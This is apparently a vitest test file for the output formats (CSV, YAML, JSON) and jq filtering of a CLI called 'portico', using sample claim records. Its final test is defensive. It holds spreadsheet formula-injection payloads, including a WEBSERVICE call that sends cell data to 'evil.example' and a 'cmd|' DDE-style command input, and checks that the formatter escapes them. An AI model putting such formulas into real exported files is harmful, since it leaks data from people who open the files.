import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { memberSetup, portico, type Test } from '../../program/binary.test.support.ts';
import { sendJson } from '../../program/outside-world.test.support.ts';
import { csv } from './csv.ts';

const claims = [
  { locator: 'CLM-1', status: 'paid', provider: { name: 'Clinic "North", Ltd' }, codes: ['D1', 'D2'] },
  { locator: 'CLM-2', billedAmount: 84.5, note: 'two\nlines' },
];

const run = async (test: Test, args: readonly string[], body: unknown = { claims, total: 2 }) => {
  const { env } = await memberSetup(test, (response) => sendJson(response, body));
  return portico(test, args, { env: { ...env, PATH: process.env['PATH'] ?? '' } });
};

const list = ['me', 'claims', 'list'];

describe.concurrent('--output', () => {
  it('prints a row per item with csv (RFC 4180)', async (test) => {
    const { exitCode, stdout } = await run(test, [...list, '--output', 'csv']);

    expect(exitCode).toBe(0);
    expect(stdout.split('\r\n')).toEqual([
      'locator,status,provider.name,codes,billedAmount,note',
      'CLM-1,paid,"Clinic ""North"", Ltd","[""D1"",""D2""]",,',
      'CLM-2,,,,84.5,"two\nlines"',
      '',
    ]);
  });

  it('prints a row per item with csv, also of a list with another name', async (test) => {
    const rows = 'locator\r\nCLM-1\r\n';
    const cases = [{ locator: 'CLM-1' }];
    expect((await run(test, [...list, '-o', 'csv'], { cases, total: 1 })).stdout).toBe(rows);
    expect((await run(test, ['me', 'api', 'GET', '/me/claims', '-o', 'csv'], { cases })).stdout).toBe(rows);
  });

  it.for([
    [['me', 'consent'], { research: true, restrictions: [] }],
    [['me', 'consent'], { research: true, history: [{ at: '2026-01-01' }] }],
    [list, { data: { items: [{ locator: 'CLM-1' }] }, errors: [] }],
    [list, { cases: ['CLM-1', 'CLM-2'], links: [{ rel: 'next' }] }],
    [['me', 'api', 'GET', '/me/coverage'], { dependents: [] }],
  ] as const)('loses nothing of what is not such a list with csv: %j %j', async ([args, body], test) => {
    const { stdout } = await run(test, [...args, '-o', 'csv'], body);
    for (const name of Object.keys(body)) expect(stdout).toMatch(new RegExp(`\\b${name}\\b`));
  });

  it('prints one row for a single resource with csv', async (test) => {
    const { stdout } = await run(test, ['me', 'coverage', '-o', 'csv'], {
      locator: 'COV-1',
      dependents: [{ name: 'A' }],
    });

    expect(stdout).toBe('locator,dependents\r\nCOV-1,"[{""name"":""A""}]"\r\n');
  });

  it('keeps the values of fields with the same path with csv', () => {
    expect(csv([{ 'a.b': 1, a: { b: 2 } }, { 'a.b': 3 }])).toBe(
      'value,a.b\r\n"{""a.b"":1,""a"":{""b"":2}}",\r\n,3\r\n',
    );
  });

  it('prints the result as YAML with yaml', async (test) => {
    const { exitCode, stdout } = await run(test, [...list, '-o', 'yaml']);

    expect([exitCode, parse(stdout)]).toEqual([0, { claims, total: 2 }]);
    expect(stdout).toMatch(/^claims:\n {2}- locator: CLM-1\n/);
  });

  it('--output is --json with json, also for errors', async (test) => {
    const { stdout } = await run(test, [...list, '--output', 'json']);
    const failed = await portico(test, [...list, '--output', 'json']);

    expect(stdout).toBe(`${JSON.stringify({ claims, total: 2 })}\n`);
    expect(JSON.parse(failed.stdout)).toMatchObject({ ok: false, code: 'invalid-request' });
  });

  it('exits with 2 for another format', async (test) => {
    const { exitCode, stderr } = await portico(test, [...list, '--output', 'xml']);

    expect(exitCode).toBe(2);
    expect(stderr).toContain('Allowed choices are table, json, yaml, csv.');
  });
});

describe.concurrent('--jq', () => {
  it('applies an expression to the result', async (test) => {
    const { exitCode, stdout } = await run(test, [...list, '--jq', '.claims[] | .locator']);

    expect([exitCode, stdout]).toEqual([0, 'CLM-1\nCLM-2\n']);
  });

  it('accepts an expression that starts with a hyphen', async (test) => {
    expect(await run(test, [...list, '--jq=-.total'])).toMatchObject({ exitCode: 0, stdout: '-2\n' });
  });

  it('exits with 2 and names the mistake in an expression', async (test) => {
    const { exitCode, stdout, stderr } = await run(test, [...list, '--jq', '.claims[']);

    expect([exitCode, stdout]).toEqual([2, '']);
    expect(stderr).toMatch(/^portico: jq cannot apply \.claims\[: syntax error/);
    expect(stderr).toContain('Check the expression of --jq.');
  });
});

it('csv formats an empty list, and a row that is not an object', () => {
  expect(csv([])).toBe('');
  expect(csv(['a', null])).toBe('value\r\na\r\n\r\n');
});

it.for([
  ['=WEBSERVICE("https://evil.example/?"&A2)', `"'=WEBSERVICE(""https://evil.example/?""&A2)"`],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['-2+cmd|x', "'-2+cmd|x"],
  ['\t=A1', "'\t=A1"],
  ['+49 (30) 555-0100', '+49 (30) 555-0100'],
  [-1.5e-7, '-1.5e-7'],
  ['-', '-'],
] as const)('csv does not let a spreadsheet run a cell as a formula: %s', ([cell, shown]) => {
  expect(csv([{ cell, [`${cell}`]: 1 }]).split('\r\n')).toEqual([`cell,${shown}`, `${shown},1`, '']);
});
